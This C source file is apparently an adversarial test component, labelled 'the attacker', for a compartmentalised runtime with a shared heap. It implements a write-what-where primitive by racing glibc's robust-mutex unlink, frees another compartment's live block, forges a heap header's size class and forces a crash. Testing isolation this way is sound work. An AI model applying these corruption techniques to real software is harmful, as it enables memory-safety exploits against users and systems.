/* The attacker. It knows the runtime's layout (the same executable runs in every process): the control
 * block through the runtime's process-local state (its first fields), the shared heap's lock just before the
 * heap's bounds in it, and the 16-byte block header (size class, magic) before each payload. */
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>

extern struct {
    const void *program;
    int32_t self_index, started, multi, is_zygote, exit_claimed, pid, launched, filter_pending;
    char *ctrl, *channels, *stacks, *heap;
} bh_rt;

char *thief_spare(void)
{
    return malloc(64);   /* in the shared heap: writable in main's process too */
}

static volatile int stop;
static pthread_t thread;
static volatile uintptr_t *list_prev, *list_next;
static uintptr_t forged_prev, forged_next;

/* glibc unlinks a robust mutex from its thread's list at unlock: *(next - 8) = prev, *prev = next, with
 * prev and next the mutex's own list words (bytes 24 and 32 of pthread_mutex_t). */
static void *hammer(void *arg)
{
    (void)arg;
    while (!stop) {
        *list_next = forged_next;
        *list_prev = forged_prev;
    }
    return NULL;
}

int thief_lock_start(uintptr_t target, uintptr_t value)
{
    for (char **w = (char **)bh_rt.ctrl; (char *)w < bh_rt.ctrl + 65536; w++)
        if (*w == bh_rt.heap) {   /* heap_start; the mutex (40 bytes) lies just before it */
            char *mutex = (char *)w - 40;
            list_prev = (volatile uintptr_t *)(mutex + 24);
            list_next = (volatile uintptr_t *)(mutex + 32);
            forged_next = target + 8;
            forged_prev = value;
            return pthread_create(&thread, NULL, hammer, NULL) == 0;
        }
    return 0;
}

long thief_lock_stop(void)
{
    if (!list_prev) return 0;
    stop = 1;
    pthread_join(thread, NULL);
    return 1;
}

void thief_free(char *block)
{
    free(block);   /* a block main allocated and still uses */
}

void thief_forge_size(char *block)
{
    ((int32_t *)block)[-4] = 12;   /* the header's class: 16 << 12 bytes */
}

int thief_crash(void)
{
    *(volatile int *)16 = 1;   /* a fault: on_fault restart starts a new process for the compartment */
    return 0;
}
